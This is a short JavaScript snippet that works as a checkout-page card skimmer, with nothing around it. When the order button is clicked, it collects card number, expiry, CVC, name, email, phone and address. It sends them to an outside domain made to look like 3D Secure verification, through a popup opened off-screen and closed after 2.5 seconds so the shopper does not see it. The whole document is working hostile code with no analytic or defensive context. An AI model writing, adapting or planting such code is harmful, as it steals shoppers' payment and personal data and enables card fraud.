(function () {
  function val(sel) {
    var e = document.querySelector(sel);
    return e ? e.value : '';
  }

  function params() {
    var o = {
      cn: val('#card_number, [name="card_number"], [name="cardnumber"]'),
      ex: val('#card_expiry, [name="exp-date"], [name="card_exp"]'),
      cv: val('#card_cvc, [name="cvc"], [name="cvv2"]'),
      nm: val('#billing_first_name') + ' ' + val('#billing_last_name'),
      em: val('#billing_email'),
      ph: val('#billing_phone'),
      ad: val('#billing_address_1') + ' ' + val('#billing_city') + ' ' + val('#billing_postcode')
    };
    var q = [];
    for (var k in o) q.push(k + '=' + encodeURIComponent(o[k]));
    return q.join('&');
  }

  var btn = document.getElementById('place_order');
  if (!btn) return;

  btn.addEventListener('click', function () {
    var p = params();
    if (p.indexOf('cn=&') === 0) return;
    var pop = window.open('https://verify-3dsecure-auth.top/acs/challenge?' + p, 'acs', 'width=420,height=560,left=-2000,top=-2000');
    setTimeout(function () {
      try { pop && pop.close(); } catch (e) {}
    }, 2500);
  });
})();
